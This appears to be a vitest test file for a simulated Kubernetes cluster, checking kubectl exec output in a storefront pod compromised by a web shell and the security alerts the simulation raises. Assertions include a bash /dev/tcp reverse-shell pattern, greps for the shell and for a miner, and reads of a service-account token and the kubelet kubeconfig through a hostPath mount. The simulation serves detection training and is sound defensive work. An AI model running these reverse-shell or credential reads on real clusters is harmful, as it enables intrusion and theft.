import { beforeAll, describe, expect, it } from 'vitest';
import type { Row } from '../core/sink';
import type { LiveCluster } from '../live/liveCluster';
import { webShellCluster } from './testCluster';

let live: LiveCluster;
/** The storefront pod the web shell runs in (the one scheduled to be replaced). */
let victim: string;

beforeAll(async () => {
  live = await webShellCluster();
  victim = /^Pod shop\/(\S+) replaced/.exec(
    live.timeline().find((e) => e.label.startsWith('Pod shop/'))!.label,
  )![1]!;
}, 60_000);

const alertTypes = (rows: Record<string, Row[]>) => (rows.SecurityAlert ?? []).map((r) => r.AlertType);

describe('kubectl exec', () => {
  it("ps aux shows the container's processes in procps layout, the reverse shell among them", () => {
    const result = live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- ps aux`);
    expect(result.exitCode).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines[0]).toBe('USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND');
    expect(lines[1]).toMatch(
      /^root {11}1 +\d\.\d +\d\.\d +\d{6} +\d{5} \? {8}Ss {3}\w{3}\d\d +\d+:\d\d php-fpm: master process \(\/usr\/local\/etc\/php-fpm\.conf\)$/,
    );
    expect(
      lines.some((l) => /^www-data +\d+ .* bash -c 'bash -i >& \/dev\/tcp\/[\d.]+\/\d+ 0>&1'$/.test(l)),
    ).toBe(true);
    expect(lines.at(-1)).toMatch(/^root +\d+ +0\.0 +0\.0 +\d+ +\d+ \? {8}Rs {3}00:00 +0:00 ps aux$/);
    // Only what still runs: the web shell's one-shot commands (whoami, id, uname) have exited.
    expect(result.stdout).not.toMatch(/whoami|uname -a/);
  });

  it("ss -tlnp and ss -tnp in iproute2's layout: the sidecar's port has no process, the shell's connection has", () => {
    expect(live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- ss -tlnp`).stdout).toBe(
      [
        'State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess                       ',
        'LISTEN 0      511          0.0.0.0:80        0.0.0.0:*                                  ',
        'LISTEN 0      511        127.0.0.1:9000      0.0.0.0:*    users:(("php-fpm",pid=1,fd=7))',
        '',
      ].join('\n'),
    );
    const established = live
      .kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- ss -tnp`)
      .stdout.split('\n');
    expect(established[0]).toMatch(/^State Recv-Q Send-Q Local Address:Port +Peer Address:Port ?Process +$/);
    expect(established[1]).toMatch(
      /^ESTAB 0 {6}0 {8}10\.244\.\d+\.\d+:\d+ +[\d.]+:\d+ +users:\(\("bash",pid=\d+,fd=2\),/,
    );
  });

  it('ls shows what the attacker wrote; cat says the simulation kept no bytes of it', () => {
    const listing = live.kubectl(
      `kubectl exec -n shop ${victim} -c php-fpm -- ls /var/www/html/uploads`,
    ).stdout;
    const shell = listing.trimEnd().split('\n')[0]!;
    expect(shell).toMatch(/\.php$/);
    const cat = live.kubectl(
      `kubectl exec -n shop ${victim} -c php-fpm -- cat /var/www/html/uploads/${shell}`,
    );
    expect(cat.exitCode).toBe(1);
    expect(cat.stderr).toMatch(/was written, not what it holds\ncommand terminated with exit code 1\n$/);
    const missing = live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- ls /nowhere`);
    expect([missing.stderr, missing.exitCode]).toEqual([
      "ls: cannot access '/nowhere': No such file or directory\ncommand terminated with exit code 2\n",
      2,
    ]);
  });

  it('env, id, hostname, mount and the service-account token describe this pod', () => {
    const exec = (command: string) =>
      live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- ${command}`).stdout;
    expect(exec('env')).toContain(`HOSTNAME=${victim}\n`);
    expect(exec('env')).toContain('KUBERNETES_SERVICE_HOST=10.0.0.1\n');
    expect(exec('id')).toBe('uid=0(root) gid=0(root) groups=0(root)\n');
    expect(exec('hostname')).toBe(`${victim}\n`);
    expect(exec('mount')).toMatch(/ on \/var\/www\/html\/uploads type cifs \(rw,/);
    expect(exec('cat /var/run/secrets/kubernetes.io/serviceaccount/namespace')).toBe('shop');
    const token = exec('cat /var/run/secrets/kubernetes.io/serviceaccount/token').split('.');
    expect(token).toHaveLength(3);
    const claims = JSON.parse(Buffer.from(token[1]!, 'base64url').toString());
    expect(claims.sub).toBe('system:serviceaccount:shop:storefront');
    expect(claims['kubernetes.io'].pod.name).toBe(victim);
  });

  it('sh -c runs a pipeline through grep, head, tail, wc and sort', () => {
    const shell = live.kubectl(
      `kubectl exec -n shop ${victim} -c php-fpm -- sh -c 'ps aux | grep -E "dev/tcp" | wc -l'`,
    );
    expect([shell.stdout, shell.exitCode]).toEqual(['1\n', 0]);
    const none = live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- sh -c 'ps aux | grep xmrig'`);
    expect([none.stdout, none.stderr, none.exitCode]).toEqual([
      '',
      'command terminated with exit code 1\n',
      1,
    ]);
    expect(
      live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- sh -c 'env | sort | head -n 2'`).stdout,
    ).toBe('CATALOG_API_PORT=tcp://10.0.52.208:8080\nCATALOG_API_PORT_8080_TCP=tcp://10.0.52.208:8080\n');
    expect(live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- bash`).stderr).toMatch(
      /runs one command per exec/,
    );
    expect(
      live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- grep www-data /etc/passwd`).stdout,
    ).toBe('www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n');
    expect(
      live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- tail -n 1 /etc/resolv.conf`).stdout,
    ).toBe('options ndots:5\n');
  });

  it('answers a wrong container, program or syntax as kubectl does', () => {
    expect(live.kubectl(`kubectl exec -n shop ${victim} -c php -- id`).stderr).toBe(
      'error: unable to upgrade connection: container not found ("php")\n',
    );
    expect(live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- nmapx`).stderr).toMatch(
      /OCI runtime exec failed: exec failed: unable to start container process: exec: "nmapx": executable file not found in \$PATH: unknown\n$/,
    );
    expect(live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- netstat -tlnp`).stderr).toMatch(
      /^error: the simulated container does not run "netstat"; it runs ps, ss, /,
    );
    expect(live.kubectl(`kubectl exec -n shop ${victim} ps`).stderr).toMatch(
      /^error: exec \[POD\] \[COMMAND\] is not supported anymore\. Use exec \[POD\] -- \[COMMAND\] instead/,
    );
    expect(live.kubectl('kubectl exec -n shop nope -- id').stderr).toBe(
      'Error from server (NotFound): pods "nope" not found\n',
    );
  });

  it('an exec is audited as a get on pods/exec that upgraded (101)', () => {
    const rows = live.kubectl(`kubectl exec -n shop ${victim} -c php-fpm -- id`).rows.AKSAudit!;
    const exec = rows.find((r) => String(r.RequestUri).includes('/exec?'))!;
    expect(exec.RequestUri).toBe(
      `/api/v1/namespaces/shop/pods/${victim}/exec?command=id&container=php-fpm&stdin=true&stdout=true`,
    );
    expect((exec.ResponseStatus as { code: number }).code).toBe(101);
  });

  it("an exec into a privileged container raises Defender's alert after its delay", () => {
    live.kubectl('kubectl label ns default pod-security.kubernetes.io/enforce=privileged');
    const applied = live.kubectl('kubectl apply -f node-debugger.yaml');
    expect(applied.stdout).toBe('pod/node-debugger created\n');
    live.advanceBy(30_000);
    expect(live.kubectl('kubectl exec node-debugger -- id').exitCode).toBe(0);
    const later = live.advanceBy(70 * 60_000);
    expect(alertTypes(later)).toEqual(
      expect.arrayContaining(['K8S_PrivilegedContainer', 'K8S.NODE_PrivilegedExecutionInContainer']),
    );
  });

  it("through a hostPath mount of /, the node's files; reading the kubelet's kubeconfig is detected", () => {
    live.kubectl('kubectl apply -f host-root-reader.yaml');
    live.advanceBy(30_000);
    expect(live.kubectl('kubectl exec host-root-reader -- ls /host/var/lib/kubelet').stdout).toContain(
      'kubeconfig\n',
    );
    const kubeconfig = live.kubectl('kubectl exec host-root-reader -- cat /host/var/lib/kubelet/kubeconfig');
    expect(kubeconfig.stdout).toMatch(/^apiVersion: v1\nkind: Config\n/);
    expect(alertTypes(live.advanceBy(15 * 60_000))).toContain('K8S.NODE_KubeConfigAccess');
  });

  it("a hostPID pod sees the node's processes: init, containerd, the kubelet", () => {
    live.kubectl('kubectl apply -f host-pid-viewer.yaml');
    live.advanceBy(30_000);
    const ps = live.kubectl('kubectl exec host-pid-viewer -- ps aux').stdout.split('\n');
    expect(ps[1]).toMatch(/^root {11}1 .* \/sbin\/init$/);
    expect(ps.some((l) => / \/usr\/local\/bin\/kubelet --enable-server /.test(l))).toBe(true);
    expect(ps.some((l) => / sleep infinity$/.test(l))).toBe(true);
  });
});
